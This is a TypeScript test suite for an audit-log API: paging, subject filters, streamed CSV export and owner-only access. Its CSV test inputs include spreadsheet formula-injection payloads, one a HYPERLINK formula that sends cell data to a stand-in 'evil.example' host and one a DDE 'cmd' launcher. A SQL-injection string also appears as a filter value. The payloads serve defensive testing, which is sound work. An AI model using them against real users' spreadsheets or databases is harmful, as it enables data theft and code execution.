import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type AuditPage, auditPageSchema } from '#contract/audit.ts';
import { type Actor, auditRow, writeAudit } from '#server/db/audit-log.ts';
import { createCompany, defaultCompanyId } from '#server/db/company.ts';
import { testDatabaseKinds } from '#server/db/testing/test-database.ts';
import { openWholeApp, type Proof, type WholeApp } from '#server/testing/whole-app.ts';

describe.each(testDatabaseKinds)('who did what, on %s', (kind) => {
  let whole: WholeApp;
  let company: number;
  let owner: Proof;

  beforeAll(async () => {
    whole = await openWholeApp(kind);
    // Without an owner nothing is answered.
    await whole.signedIn(defaultCompanyId, 'owner');
  }, 60_000);
  afterAll(() => whole.close());
  beforeEach(async () => {
    company = await createCompany(whole.database.db, 'Test');
    owner = await whole.keyOf(company, 'owner');
  });

  const actor = (change: Partial<Actor> = {}): Actor => ({
    companyId: company,
    kind: 'person',
    id: 'p1',
    name: 'Ada',
    address: '198.51.100.7',
    ...change,
  });
  const ask = (path: string) => whole.app.request(`http://127.0.0.1${path}`, { headers: owner });
  const page = async (query = ''): Promise<AuditPage> =>
    auditPageSchema.parse(await (await ask(`/api/audit${query}`)).json());
  const csv = async () => (await ask('/api/audit.csv')).text();
  const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });

  async function write(subjects: readonly string[]) {
    for (const subject of subjects)
      await writeAudit(whole.database.db, actor(), { action: 'lead.withdrawn', subject });
  }

  test('comes newest first, in pages that leave nothing out', async () => {
    await write(['1', '2', '3', '4', '5']);
    const seen: (string | null)[] = [];
    let next: number | null = 1;
    while (next !== null) {
      const { count, results, next_page } = await page(`?page_size=2&page=${next}`);
      expect(count).toBe(5);
      seen.push(...results.map(({ subject }) => subject));
      next = next_page;
    }
    expect(seen).toEqual(['5', '4', '3', '2', '1']);
    expect(await page('?page=4&page_size=2')).toEqual({ count: 5, next_page: null, results: [] });
  });

  test.each(['page=0', 'page_size=201', 'page=x', 'other=1', `subject=${'x'.repeat(65)}`])(
    'refuses %s',
    async (query) => {
      expect((await ask(`/api/audit?${query}`)).status).toBe(400);
    },
  );

  test('of one subject alone, and as empty as there is nothing of it', async () => {
    await write(['lead', 'other', 'lead']);
    expect(await page('?subject=lead')).toMatchObject({
      count: 2,
      results: [{ subject: 'lead' }, { subject: 'lead' }],
    });
    expect(await page('?subject=lead&page_size=1')).toMatchObject({ count: 2, next_page: 2 });
    for (const none of ['lea', 'LEAD', '%25', "x'%20or%20'1'='1"])
      expect(await page(`?subject=${none}`)).toMatchObject({ count: 0, results: [] });
  });

  test('says who, from where, when, and what was before and after', async () => {
    await writeAudit(whole.database.db, actor(), {
      action: 'person.changed',
      subject: 'p2',
      before: { role: 'office' },
      after: { role: 'owner' },
    });
    const [entry] = (await page()).results;
    expect(entry).toMatchObject({
      action: 'person.changed',
      actor: { kind: 'person', id: 'p1', name: 'Ada' },
      address: '198.51.100.7',
      subject: 'p2',
      before: { role: 'office' },
      after: { role: 'owner' },
    });
    expect(Math.abs(Date.parse(entry?.at ?? '') - Date.now())).toBeLessThan(60_000);
  });

  test('as a file: one line each, oldest first, and that it was taken is the last', async () => {
    await write(['1', '2']);
    const answer = await ask('/api/audit.csv');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toContain('attachment');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const text = await answer.text();
    expect(text.split('\r\n')).toHaveLength(5);
    expect(rowsOf(text)).toMatchObject([
      { action: 'lead.withdrawn', actor_kind: 'person', actor_name: 'Ada', subject: '1' },
      { action: 'lead.withdrawn', address: '198.51.100.7', subject: '2' },
      { action: 'audit.exported', actor_kind: 'key', actor_name: 'Test', subject: '' },
    ]);
    expect((await page()).results[0]?.action).toBe('audit.exported');
  });

  test.each([
    'O"Neil, Ada',
    'two\r\nlines',
    'one\nline',
    '"',
    '""quoted""',
    ',',
    'Ünï·cødé 🏠 \u202Eyek',
    ' spaces ',
  ])('keeps the name %j whole', async (name) => {
    const details = { before: { name }, after: { name: [name] } };
    await writeAudit(whole.database.db, actor({ name }), {
      action: 'account.changed',
      subject: name,
      ...details,
    });
    const [row] = rowsOf(await csv());
    expect(row).toMatchObject({ actor_name: name, subject: name });
    expect(JSON.parse(row?.before ?? '')).toEqual(details.before);
    expect(JSON.parse(row?.after ?? '')).toEqual(details.after);
  });

  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Ada")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\uFF1D1+1',
  ])('lets a spreadsheet run nothing of %j', async (name) => {
    await writeAudit(whole.database.db, actor({ name, address: name, id: name }), {
      action: 'account.changed',
      subject: name,
    });
    const text = await csv();
    const [row = {}] = rowsOf(text);
    for (const cell of Object.values(row)) {
      // As spreadsheets do before they look for a formula.
      expect(cell.normalize('NFKC').trim()).not.toMatch(/^[=+\-@]/);
      expect(cell).not.toMatch(/^[\t\r\n]/);
    }
    expect(Object.keys(row)).toHaveLength(9);
  });

  test('of many thousands all come, once each and in order, a part at a time', async () => {
    const many = 3500;
    const rows = Array.from({ length: many }, (_, at) =>
      auditRow(actor(), { action: 'lead.created', subject: `${at}` }, new Date().toISOString()),
    );
    for (let at = 0; at < many; at += 500)
      await whole.database.db
        .insertInto('audit_log')
        .values(rows.slice(at, at + 500))
        .execute();
    const answer = await ask('/api/audit.csv');
    const parts: string[] = [];
    for await (const part of answer.body ?? []) parts.push(Buffer.from(part).toString());
    expect(parts.length).toBeGreaterThan(3);
    expect(Math.max(...parts.map((part) => part.length))).toBeLessThan(parts.join('').length / 2);
    const subjects = rowsOf(parts.join('')).map(({ subject }) => subject);
    expect(subjects.slice(0, many)).toEqual(rows.map(({ subject }) => subject));
    expect(subjects).toHaveLength(many + 1);
  });

  test('a reader that goes away in the middle leaves nothing behind', async () => {
    await write(['1']);
    const answer = await ask('/api/audit.csv');
    await answer.body?.cancel();
    expect((await page()).count).toBe(2);
  });

  test('is for the owner alone, and of no other company', async () => {
    await write(['ours']);
    const office = await whole.keyOf(company, 'office');
    const other = await whole.keyOf(await createCompany(whole.database.db, 'Other'), 'owner');
    for (const path of ['/api/audit', '/api/audit.csv']) {
      const url = `http://127.0.0.1${path}`;
      expect((await whole.app.request(url, { headers: office })).status).toBe(403);
      expect((await whole.app.request(url)).status).toBe(401);
      const theirs = await whole.app.request(url, { headers: other });
      expect(theirs.status).toBe(200);
      expect(await theirs.text()).not.toContain('ours');
    }
    // A refusal is no export.
    expect((await page()).results.map(({ action }) => action)).toEqual(['lead.withdrawn']);
  });
});
